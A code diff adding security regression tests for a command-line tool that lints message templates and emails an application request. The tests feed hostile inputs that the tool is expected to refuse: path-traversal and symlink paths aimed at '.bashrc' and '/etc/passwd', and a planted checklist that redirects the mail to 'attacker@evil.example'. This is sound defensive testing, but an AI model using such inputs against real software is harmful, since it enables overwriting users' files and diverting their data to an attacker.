@@ -147,7 +147,151 @@ def case_attach():
     expect(SECRET.encode() not in sink.messages[0][2], "the secret reached the SMTP server")
 
 
-CASES = {name[5:]: f for name, f in globals().items() if name.startswith("case_")}
+# ---- 2. paths a configuration names -----------------------------------------------------
+
+def repo(root):
+    """A git-like repository folder with one template; returns it."""
+    r = os.path.join(root, "repo")
+    os.makedirs(os.path.join(r, ".git"))
+    os.makedirs(os.path.join(r, "templates"))
+    with open(os.path.join(r, "templates", "t.txt"), "w") as f:
+        f.write("---\nname: order_update\nlanguage: pt_BR\ncategory: UTILITY\n---\nOla {{1}}, seu pedido saiu.\n")
+    return r
+
+
+def case_config_paths():
+    root = tempfile.mkdtemp(prefix="waba-sec-")
+    r = repo(root)
+    home = os.path.join(root, "home")
+    os.makedirs(home)
+    bashrc = os.path.join(home, ".bashrc")
+    with open(bashrc, "w") as f:
+        f.write("original\n")
+    os.symlink(home, os.path.join(r, "homelink"))
+    env = {"HOME": home}
+    cfg = os.path.join(r, ".waba-preflight.json")
+    bad = {
+        "dot-dot baseline": ({"baseline": "../home/.bashrc"}, "must name a .json file"),
+        "dot-dot .json baseline": ({"baseline": "../home/x.json"}, "is outside the folder"),
+        "absolute baseline": ({"baseline": os.path.join(home, "x.json")}, "is outside the folder"),
+        "baseline through a link": ({"baseline": "homelink/x.json"}, "is outside the folder"),
+        "not json": ({"baseline": "notes.txt"}, "must name a .json file"),
+        "checklist outside": ({"checklists": ["/etc/passwd"]}, "is outside the folder"),
+        "checklist through a link": ({"checklists": ["homelink/.bashrc"]}, "is outside the folder"),
+        "ignore with ..": ({"ignore": ["../x"]}, "may not contain '..'"),
+    }
+    for name, (conf, why) in bad.items():
+        with open(cfg, "w") as f:
+            json.dump(conf, f)
+        code, out, err = run(["lint", "templates", "--update-baseline"], r, env)
+        expect(code == 2 and why in err, f"{name}: exit {code}, want 2 and '{why}'", out, err)
+        expect(".waba-preflight.json:1:" in err, f"{name}: the error does not point into the configuration", out, err)
+        expect(open(bashrc).read() == "original\n", f"{name}: .bashrc was changed")
+        expect(not os.path.exists(os.path.join(home, "x.json")), f"{name}: a file was written outside")
+    # an existing file that is not a baseline is never replaced
+    with open(os.path.join(r, "package.json"), "w") as f:
+        f.write('{"name": "x"}\n')
+    with open(cfg, "w") as f:
+        json.dump({"baseline": "package.json"}, f)
+    code, out, err = run(["lint", "templates", "--update-baseline"], r, env)
+    expect(code == 2 and "it is not a baseline" in err, f"package.json: exit {code}", out, err)
+    expect(open(os.path.join(r, "package.json")).read() == '{"name": "x"}\n', "package.json was replaced")
+    # the ordinary case still works: a baseline inside, written by name
+    with open(cfg, "w") as f:
+        json.dump({"baseline": "ci/baseline.json"}, f)
+    os.makedirs(os.path.join(r, "ci"))
+    code, out, err = run(["lint", "templates", "--update-baseline"], r, env)
+    expect(code == 0 and os.path.exists(os.path.join(r, "ci", "baseline.json")), f"good baseline: exit {code}", out, err)
+    expect("using the configuration '.waba-preflight.json'" in err, "the configuration used is not said", out, err)
+
+
+# ---- 3. which configuration applies; the recipient ---------------------------------------
+
+EVIL_CHECKLIST = """<?xml version="1.0" encoding="UTF-8"?>
+<checklist version="1">
+  <set id="email.recipient" mode="replace"><item value="attacker@evil.example"/></set>
+</checklist>
+"""
+
+
+def case_config_search():
+    """A .waba-preflight.json above the repository, or owned by another user, or writable
+    by everyone, is not used; the one used is named on stderr."""
+    root = tempfile.mkdtemp(prefix="waba-sec-")
+    os.chmod(root, 0o777)  # a shared folder, as /tmp
+    r = repo(root)
+    lint_home = os.path.join(root, "home")
+    os.makedirs(lint_home)
+    above = os.path.join(root, ".waba-preflight.json")
+    with open(above, "w") as f:
+        json.dump({"rules": {"template.": "off"}, "checklists": ["evil.xml"]}, f)
+    with open(os.path.join(root, "evil.xml"), "w") as f:
+        f.write(EVIL_CHECKLIST)
+    # 1. above the git top level: never reached
+    code, out, err = run(["lint", "templates"], r, {"HOME": lint_home})
+    expect("using the configuration" not in err and "evil" not in err, "a config above the repository was used", out, err)
+    # 2. no .git: the search goes up, but stops at HOME
+    shutil.rmtree(os.path.join(r, ".git"))
+    code, out, err = run(["lint", "templates"], r, {"HOME": r})
+    expect("using the configuration" not in err, "a config above HOME was used", out, err)
+    # 3. no .git, no HOME above: the file is found, but refused when another user owns it
+    uid = os.geteuid()
+    if uid == 0:
+        import pwd
+        os.chown(above, pwd.getpwnam("nobody").pw_uid, -1)
+        code, out, err = run(["lint", "templates", "--format", "json"], r, {"HOME": lint_home})
+        expect("belongs to another user" in err and "give it with --config" in err,
+               f"a config owned by nobody was not refused (exit {code})", out, err)
+        expect("evil" not in err, "the refused config's checklist was loaded", out, err)
+        os.chown(above, 0, -1)
+    # 4. ... or when everyone may write it (also as a non-root user)
+    os.chmod(above, 0o666)
+    code, out, err = run(["lint", "templates"], r, {"HOME": lint_home})
+    expect("everyone may write it" in err and "using the configuration" not in err,
+           f"a world-writable config was used (exit {code})", out, err)
+    # 5. owned by this user and private: used, and said so with its checklist
+    os.chmod(above, 0o644)
+    code, out, err = run(["lint", "templates"], r, {"HOME": lint_home})
+    expect(f"using the configuration '{above}'" in err, f"the configuration used is not named (exit {code})", out, err)
+    expect("evil.xml' named by the configuration" in err, "the configuration's checklist is not named", out, err)
+    expect("changes email.recipient: ignored" in err, "the recipient change is not reported", out, err)
+    # 6. not in JSON format (stdout is the report; stderr stays quiet)
+    code, out, err = run(["lint", "templates", "--format", "json"], r, {"HOME": lint_home})
+    json.loads(out)
+    expect("using the configuration" not in err, "the note is printed in JSON format", out, err)
+
+
+def case_recipient():
+    """A checklist from the repository cannot redirect the request; --to can; the recipient
+    is printed before sending. The loopback server records RCPT TO."""
+    root = tempfile.mkdtemp(prefix="waba-sec-")
+    d = app_dir(root)
+    os.makedirs(os.path.join(d, ".git"))
+    with open(os.path.join(d, "evil.xml"), "w") as f:
+        f.write(EVIL_CHECKLIST)
+    with open(os.path.join(d, ".waba-preflight.json"), "w") as f:
+        json.dump({"checklists": ["evil.xml"]}, f)
+    c, sink, port = smtp_server()
+    try:
+        url = f"smtp://127.0.0.1:{port}"
+        code, out, err = run(["email", "application.json", "-o", "a.eml", "--send", url], d)
+        expect(code == 0, f"exit {code}", out, err)
+        expect("sending the request to servico@botmaker.com through " + url in err, "the recipient was not printed", out, err)
+        code, out, err = run(["email", "application.json", "-o", "b.eml", "--quiet", "--send", url,
+                              "--checklist", "evil.xml"], d)
+        expect(code == 0 and "sending the request to servico@botmaker.com" in err,
+               f"--checklist, --quiet: exit {code}", out, err)
+        code, out, err = run(["email", "application.json", "-o", "c.eml", "--send", url, "--to", "me@example.com"], d)
+        expect(code == 0 and "sending the request to me@example.com" in err, f"--to: exit {code}", out, err)
+    finally:
+        c.stop()
+    rcpts = [m[1] for m in sink.messages]
+    expect(rcpts == [["servico@botmaker.com"], ["servico@botmaker.com"], ["me@example.com"]], f"RCPT TO: {rcpts}")
+    for name in ("a.eml", "b.eml"):
+        expect(b"attacker@evil.example" not in open(os.path.join(d, name), "rb").read(), f"{name} names the attacker")
+
+
+CASES = {name[5:].replace("_", "-"): f for name, f in globals().items() if name.startswith("case_")}
 
 if __name__ == "__main__":
     if CASE not in CASES:
